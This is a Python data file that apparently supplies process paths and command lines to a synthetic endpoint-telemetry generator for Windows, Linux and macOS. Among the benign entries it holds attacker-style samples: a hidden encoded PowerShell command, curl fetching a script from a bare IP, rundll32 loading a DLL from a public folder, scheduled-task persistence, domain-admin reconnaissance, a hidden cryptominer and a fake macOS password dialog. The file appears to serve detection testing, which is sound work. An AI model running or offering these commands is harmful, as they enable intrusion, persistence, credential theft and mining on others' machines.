"""The programs that endpoints run. Data only, so that renderers stay readable.

A command line may hold one ``{n}``, which each process replaces by a number of its own.
"""

from __future__ import annotations

from typing import NamedTuple


class Program(NamedTuple):
    """An executable; ``kind`` is what it is to its children, ``under`` the kind of parent it is started by."""

    path: str
    kind: str
    under: str
    signer: str
    """Company that signed it; ``""`` for an unsigned one."""
    weight: int
    commands: tuple[str, ...]


_MS, _GOOGLE, _APPLE, _MOZILLA = "Microsoft Corporation", "Google LLC", "Apple Inc.", "Mozilla Corporation"
_SYS32 = "C:\\Windows\\System32\\"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_POWERSHELL = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_RENDERER = (
    " --type=renderer --field-trial-handle={n},1834217934,i --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4"
    " --enable-main-frame-before-activation --renderer-client-id=17 --time-ticks-at-unix-epoch=-1701423905131604"
    " --launch-time-ticks=8837159 --enable-features=NetworkServiceInProcess2 --disable-features=CalculateNativeWinOcclusion"
    " --variations-seed-version --mojo-platform-channel-handle=3128 /prefetch:1"
)
_ENCODED = "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAA7AA" * 9
_CLASSPATH = ":".join(f"/opt/app/lib/component-{i:02d}-{i % 7}.{i % 5}.{i % 3}.jar" for i in range(60))

# The first of each list are running before the sensor starts and never end: the roots that other processes hang from.
WINDOWS_ROOTS = (
    Program(_SYS32 + "services.exe", "service", "", _MS, 0, (_SYS32 + "services.exe",)),
    Program("C:\\Windows\\explorer.exe", "desktop", "service", _MS, 0, ("C:\\Windows\\Explorer.EXE",)),
    Program(_SYS32 + "cmd.exe", "shell", "desktop", _MS, 0, ('"C:\\Windows\\system32\\cmd.exe"',)),
    Program(_CHROME, "browser", "desktop", _GOOGLE, 0, (f'"{_CHROME}" --profile-directory=Default',)),
    Program(_SYS32 + "lsass.exe", "lsass", "service", _MS, 0, (_SYS32 + "lsass.exe",)),
)
WINDOWS_PROGRAMS = (
    Program(_CHROME, "tab", "browser", _GOOGLE, 24, (f'"{_CHROME}"{_RENDERER}',)),
    Program(
        _SYS32 + "svchost.exe",
        "worker",
        "service",
        _MS,
        20,
        (
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s Proxy{n}",
        ),
    ),
    Program(
        _SYS32 + "cmd.exe",
        "shell",
        "desktop",
        _MS,
        8,
        ('cmd.exe /c "echo %TEMP% > nul & dir /b C:\\Users"', "cmd.exe /d /s /c build{n}.cmd"),
    ),
    Program(
        _POWERSHELL,
        "shell",
        "desktop",
        _MS,
        8,
        (
            "powershell.exe -NoProfile -File C:\\ops\\inventory.ps1 -Run {n}",
            f"powershell.exe -nop -w hidden -EncodedCommand {_ENCODED}",
            "powershell -c \"Get-ChildItem 'C:\\Users\\José\\Документы' | Where-Object { $_.Length -gt {n} }\"",
        ),
    ),
    Program(_SYS32 + "whoami.exe", "tool", "shell", _MS, 4, ("whoami /all", "whoami")),
    Program(_SYS32 + "net.exe", "tool", "shell", _MS, 4, ("net user /domain", 'net group "Domain Admins" /domain')),
    Program(
        _SYS32 + "conhost.exe", "tool", "shell", _MS, 10, ("\\??\\C:\\Windows\\system32\\conhost.exe 0x{n} -ForceV1",)
    ),
    Program(_SYS32 + "rundll32.exe", "tool", "shell", _MS, 4, ("rundll32.exe C:\\Users\\Public\\tmp{n}.dll,Start",)),
    Program(
        _SYS32 + "schtasks.exe",
        "tool",
        "shell",
        _MS,
        3,
        ('schtasks /create /tn "Updater {n}" /tr C:\\ProgramData\\u.exe /sc onlogon',),
    ),
    Program(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "office",
        "desktop",
        _MS,
        6,
        ('WINWORD.EXE /n "Résumé – final ({n}).docx"',),
    ),
    Program(
        "C:\\Program Files\\Microsoft VS Code\\Code.exe",
        "desktop",
        "desktop",
        _MS,
        6,
        ("Code.exe --type=utility --utility-sub-type=node --pid {n}",),
    ),
    Program(
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        "browser",
        "desktop",
        _MOZILLA,
        6,
        ('firefox.exe -contentproc --channel="{n}.1" tab',),
    ),
    Program(
        "C:\\Users\\Public\\Downloads\\ünïcode\t tool.exe",
        "tool",
        "desktop",
        "",
        1,
        ('"ünïcode\t tool.exe" --näme "\u4f50\u85e4 {n}"',),
    ),
)
LINUX_ROOTS = (
    Program("/usr/lib/systemd/systemd", "service", "", "", 0, ("/sbin/init splash",)),
    Program(
        "/usr/sbin/sshd", "desktop", "service", "", 0, ("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",)
    ),
    Program("/usr/bin/bash", "shell", "desktop", "", 0, ("-bash",)),
    Program(
        "/usr/bin/dockerd",
        "container",
        "service",
        "",
        0,
        ("/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",),
    ),
)
LINUX_PROGRAMS = (
    Program("/usr/sbin/sshd", "desktop", "service", "", 8, ("sshd: deploy [priv] {n}",)),
    Program(
        "/usr/bin/bash",
        "shell",
        "desktop",
        "",
        14,
        ("bash -c 'set -euo pipefail; ./run.sh {n} 2>&1 | tee -a /var/log/run.log'", "-bash"),
    ),
    Program(
        "/usr/bin/runc",
        "container",
        "container",
        "",
        8,
        ("runc --root /var/run/docker/runtime-runc/moby --log-format json exec --process /tmp/runc-process{n}",),
    ),
    Program(
        "/usr/bin/curl",
        "tool",
        "shell",
        "",
        10,
        ("curl -fsSL https://packages.example.org/pool/{n}?arch=amd64&os=linux", "curl -k https://198.51.100.23/x.sh"),
    ),
    Program(
        "/usr/bin/python3.11",
        "tool",
        "shell",
        "",
        10,
        ("python3 -m pytest -q tests/unit --maxfail={n}", "python3 /opt/jobs/étl.py --date 2024-05-{n}"),
    ),
    Program(
        "/usr/lib/jvm/java-17/bin/java",
        "worker",
        "service",
        "",
        3,
        (f"java -Xmx4g -cp {_CLASSPATH} com.example.Service --instance {{n}}",),
    ),
    Program(
        "/usr/bin/git", "tool", "shell", "", 8, ("git fetch --depth={n} origin main", "git rev-parse --abbrev-ref HEAD")
    ),
    Program(
        "/usr/bin/sudo", "shell", "shell", "", 4, ("sudo -u postgres psql -c 'select count(*) from t where id < {n}'",)
    ),
    Program("/usr/bin/grep", "tool", "shell", "", 12, ("grep -rn --include=*.conf 'listen {n}' /etc",)),
    Program("/var/lib/.x/kworkerds", "tool", "shell", "", 1, ("./kworkerds -o stratum+tcp://pool.example.net:{n}",)),
    Program("/usr/sbin/cron", "shell", "service", "", 6, ("/usr/sbin/CRON -f -P",)),
)
MACOS_ROOTS = (
    Program("/sbin/launchd", "service", "", _APPLE, 0, ("/sbin/launchd",)),
    Program(
        "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
        "desktop",
        "service",
        _APPLE,
        0,
        ("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",),
    ),
    Program("/bin/zsh", "shell", "desktop", _APPLE, 0, ("-zsh",)),
    Program(
        "/Applications/Safari.app/Contents/MacOS/Safari",
        "browser",
        "desktop",
        _APPLE,
        0,
        ("/Applications/Safari.app/Contents/MacOS/Safari",),
    ),
)
MACOS_PROGRAMS = (
    Program(
        "/usr/libexec/xpcproxy",
        "worker",
        "service",
        _APPLE,
        16,
        ("xpcproxy com.apple.WebKit.WebContent.{n}", "xpcproxy com.apple.mdworker.shared"),
    ),
    Program("/usr/bin/curl", "tool", "shell", _APPLE, 6, ("curl -s https://api.example.com/v2/items/{n}",)),
    Program(
        "/usr/bin/git", "tool", "shell", _APPLE, 10, ("git status --porcelain=v2 --branch -z -uall --ignored={n}",)
    ),
    Program("/bin/bash", "shell", "shell", _APPLE, 8, ('/bin/bash -c "cd ~/Développement && make -j{n}"',)),
    Program(
        "/usr/bin/osascript",
        "tool",
        "shell",
        _APPLE,
        2,
        ("osascript -e 'display dialog \"Password {n}:\" with hidden answer'",),
    ),
    Program(
        "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
        "browser",
        "desktop",
        _GOOGLE,
        10,
        (f"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome{_RENDERER}",),
    ),
    Program(
        "/Users/zoë/Downloads/請求書 ビューア.app/Contents/MacOS/viewer",
        "tool",
        "desktop",
        "",
        1,
        ("viewer --open 請求書-{n}.pdf",),
    ),
)

ROOTS = {"windows": WINDOWS_ROOTS, "linux": LINUX_ROOTS, "macos": MACOS_ROOTS}
PROGRAMS = {"windows": WINDOWS_PROGRAMS, "linux": LINUX_PROGRAMS, "macos": MACOS_PROGRAMS}
